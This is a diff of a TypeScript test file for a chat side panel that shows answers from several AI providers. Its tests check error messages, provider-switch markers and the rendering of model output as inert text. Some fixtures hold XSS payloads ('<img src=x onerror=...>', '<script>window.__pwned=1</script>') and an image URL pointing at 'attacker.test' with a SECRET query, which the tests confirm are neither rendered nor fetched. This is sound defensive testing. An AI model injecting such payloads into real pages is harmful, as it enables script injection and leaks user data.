@@ -19,10 +19,25 @@ const meta = (over: Partial<ConversationMeta> = {}): ConversationMeta => ({
   ...over,
 });
 const user = (id: string, text = 'question'): Turn => ({ id, role: 'user', blocks: [{ type: 'text', text }] });
-const answer = (id: string, provider: string, model: string, blocks: Block[] = [{ type: 'text', text: `answer ${id}` }], over: Partial<Turn> = {}): Turn => ({
+const answer = (
+  id: string,
+  provider: string,
+  model: string,
+  blocks: Block[] = [{ type: 'text', text: `answer ${id}` }],
+  over: Partial<Turn> = {},
+): Turn => ({
   id,
   role: 'assistant',
-  origin: { provider, api: provider === 'google' ? 'gemini-generate-content' : provider === 'anthropic' ? 'anthropic-messages' : 'openai-responses', model },
+  origin: {
+    provider,
+    api:
+      provider === 'google'
+        ? 'gemini-generate-content'
+        : provider === 'anthropic'
+          ? 'anthropic-messages'
+          : 'openai-responses',
+    model,
+  },
   status: 'complete',
   blocks,
   ...over,
@@ -37,7 +52,9 @@ async function openWith(turns: Turn[], listMeta: ConversationMeta = meta()) {
     getConversation: () => ({ meta: listMeta, turns, busy: false }),
   });
   render(<SidePanel connector={m.connector} openOptions={() => undefined} />);
-  const item = await screen.findByRole('button', { name: new RegExp(listMeta.title.slice(0, 10).replace(/[<>=/]/g, '.')) });
+  const item = await screen.findByRole('button', {
+    name: new RegExp(listMeta.title.slice(0, 10).replace(/[<>=/]/g, '.')),
+  });
   fireEvent.click(item);
   await screen.findAllByRole('article');
   return m;
@@ -74,7 +91,13 @@ const OPTIONS_LINK: ErrorCode[] = ['no_key', 'invalid_key', 'locked', 'endpoint_
 describe('errors of a failed answer', () => {
   for (const [code, sentence] of Object.entries(EXPECTED) as [ErrorCode, string][]) {
     it(`${code}: shows its sentence, the cleaned detail, Retry, and no raw JSON`, async () => {
-      await openWith([user('u1'), answer('a1', 'openai', 'gpt-5', [{ type: 'text', text: 'partial' }], { status: 'error', error: { type: code, message: RAW } })]);
+      await openWith([
+        user('u1'),
+        answer('a1', 'openai', 'gpt-5', [{ type: 'text', text: 'partial' }], {
+          status: 'error',
+          error: { type: code, message: RAW },
+        }),
+      ]);
       const alert = screen.getByRole('alert');
       // rate_limited without retryAfterSec on the turn: the live event carries it (below)
       if (code !== 'rate_limited') expect(alert.textContent).toContain(sentence);
@@ -87,15 +110,31 @@ describe('errors of a failed answer', () => {
   }
 
   it('uses the live error (with its retry time) over the stored one', async () => {
-    const m = await openWith([user('u1'), answer('a1', 'openai', 'gpt-5', [], { status: 'error', error: { type: 'rate_limited', message: '429' } })]);
+    const m = await openWith([
+      user('u1'),
+      answer('a1', 'openai', 'gpt-5', [], { status: 'error', error: { type: 'rate_limited', message: '429' } }),
+    ]);
     expect(screen.getByRole('alert').textContent).toContain('Wait a minute, then try again.');
-    act(() => m.emit({ type: 'sendStateChanged', conversationId: 'c1', state: 'idle', error: { code: 'rate_limited', message: '429', retryAfterSec: 30 } }));
+    act(() =>
+      m.emit({
+        type: 'sendStateChanged',
+        conversationId: 'c1',
+        state: 'idle',
+        error: { code: 'rate_limited', message: '429', retryAfterSec: 30 },
+      }),
+    );
     act(() => m.emit({ type: 'sendStateChanged', conversationId: 'c1', state: 'idle' }));
     expect(screen.getByRole('alert').textContent).toContain(EXPECTED.rate_limited);
   });
 
   it('a provider error type from the stream maps to a known sentence', async () => {
-    await openWith([user('u1'), answer('a1', 'anthropic', 'claude', [{ type: 'text', text: 'half' }], { status: 'error', error: { type: 'overloaded_error', message: 'Overloaded' } })]);
+    await openWith([
+      user('u1'),
+      answer('a1', 'anthropic', 'claude', [{ type: 'text', text: 'half' }], {
+        status: 'error',
+        error: { type: 'overloaded_error', message: 'Overloaded' },
+      }),
+    ]);
     expect(screen.getByRole('alert').textContent).toContain(EXPECTED.overloaded);
     expect(screen.getByText('half')).toBeTruthy();
   });
@@ -121,12 +160,16 @@ describe('model output is text, never HTML (R1–R3)', () => {
           { type: 'text', text: all },
         ]),
         { id: 't1', role: 'tool', blocks: [{ type: 'tool_result', callId: 'call_1', content: all }] },
-        answer('a2', 'anthropic', 'claude', [{ type: 'text', text: all }], { status: 'error', error: { type: 'provider_error', message: PAYLOADS[0]! } }),
+        answer('a2', 'anthropic', 'claude', [{ type: 'text', text: all }], {
+          status: 'error',
+          error: { type: 'provider_error', message: PAYLOADS[0]! },
+        }),
       ],
       meta({ title: PAYLOADS[0]!, preview: PAYLOADS[1]! }),
     );
     for (const tag of ['img', 'script', 'svg', 'iframe', 'a']) expect(document.body.querySelector(tag)).toBeNull();
-    for (const el of document.body.querySelectorAll('*')) for (const attr of el.getAttributeNames()) expect(attr.startsWith('on')).toBe(false);
+    for (const el of document.body.querySelectorAll('*'))
+      for (const attr of el.getAttributeNames()) expect(attr.startsWith('on')).toBe(false);
     expect((window as unknown as { __pwned?: number }).__pwned).toBeUndefined();
     const a1 = document.querySelector('[data-turn-id="a1"]')!;
     expect(a1.textContent).toContain('<img src=x onerror="window.__pwned=1">');
@@ -135,15 +178,24 @@ describe('model output is text, never HTML (R1–R3)', () => {
     expect(a1.querySelectorAll('details.block-thinking:not([open])')).toHaveLength(1);
     expect(a1.querySelectorAll('details.tool-call:not([open])')).toHaveLength(1);
     // The user's message is rendered as Markdown, and stays inert too.
-    expect(document.querySelector('[data-turn-id="u1"] .markdown')!.textContent).toContain('<script>window.__pwned=1</script>');
+    expect(document.querySelector('[data-turn-id="u1"] .markdown')!.textContent).toContain(
+      '<script>window.__pwned=1</script>',
+    );
     expect(document.querySelector('[data-conversation-id="c1"]')!.textContent).toContain(PAYLOADS[0]);
     expect(screen.getByRole('alert').textContent).toContain(PAYLOADS[0]);
   });
 
   it('shows a remote image as its URL, without fetching it (R3)', async () => {
-    await openWith([user('u1'), answer('a1', 'openai', 'gpt-5', [{ type: 'image', mediaType: 'image/png', url: 'https://attacker.test/p?q=SECRET' }])]);
+    await openWith([
+      user('u1'),
+      answer('a1', 'openai', 'gpt-5', [
+        { type: 'image', mediaType: 'image/png', url: 'https://attacker.test/p?q=SECRET' },
+      ]),
+    ]);
     expect(document.querySelector('img')).toBeNull();
-    expect(document.querySelector('[data-turn-id="a1"]')!.textContent).toContain('[Image: https://attacker.test/p?q=SECRET]');
+    expect(document.querySelector('[data-turn-id="a1"]')!.textContent).toContain(
+      '[Image: https://attacker.test/p?q=SECRET]',
+    );
   });
 });
 
@@ -166,15 +218,30 @@ describe('origins and provider switches', () => {
     expect(markers).toEqual(['Switched from OpenAI to Anthropic', 'Switched from Anthropic to Google Gemini']);
     const origin = (id: string) => document.querySelector(`[data-turn-id="${id}"] .turn-origin`)!.textContent;
     // Once per turn, in words (docs/side-panel.md): the model's name, then the provider's.
-    expect([origin('a1'), origin('a2'), origin('a3'), origin('a4')]).toEqual(['GPT-5 · OpenAI', 'Claude Sonnet 4.5 · Anthropic', 'Claude Opus 4.1 · Anthropic', 'Gemini 2.5 Pro · Google Gemini']);
+    expect([origin('a1'), origin('a2'), origin('a3'), origin('a4')]).toEqual([
+      'GPT-5 · OpenAI',
+      'Claude Sonnet 4.5 · Anthropic',
+      'Claude Opus 4.1 · Anthropic',
+      'Gemini 2.5 Pro · Google Gemini',
+    ]);
     expect(document.querySelector('[data-turn-id="a2"] details summary')!.textContent).toBe('Thinking');
     // the marker sits right before the answer of the new provider
-    expect(document.querySelector('[data-turn-id="a2"]')!.previousElementSibling!.hasAttribute('data-provider-switch')).toBe(true);
+    expect(
+      document.querySelector('[data-turn-id="a2"]')!.previousElementSibling!.hasAttribute('data-provider-switch'),
+    ).toBe(true);
     expect(document.querySelector('[data-turn-id="u1"]')!.getAttribute('data-role')).toBe('user');
   });
 
   it('names P4 finishes instead of showing a plain answer', async () => {
-    await openWith([user('u1'), answer('a1', 'google', 'gemini-2.5-pro', [], { status: 'error', stopReason: 'content_filter', meta: { rawStopReason: 'SAFETY' }, error: { type: 'blocked', message: 'prompt blocked: SAFETY' } })]);
+    await openWith([
+      user('u1'),
+      answer('a1', 'google', 'gemini-2.5-pro', [], {
+        status: 'error',
+        stopReason: 'content_filter',
+        meta: { rawStopReason: 'SAFETY' },
+        error: { type: 'blocked', message: 'prompt blocked: SAFETY' },
+      }),
+    ]);
     const a1 = document.querySelector('[data-turn-id="a1"]')!;
     // P4: a blocked prompt is its own labelled state, never an empty bubble
     expect(a1.querySelector('[data-finish]')!.getAttribute('data-finish')).toBe('prompt_blocked');
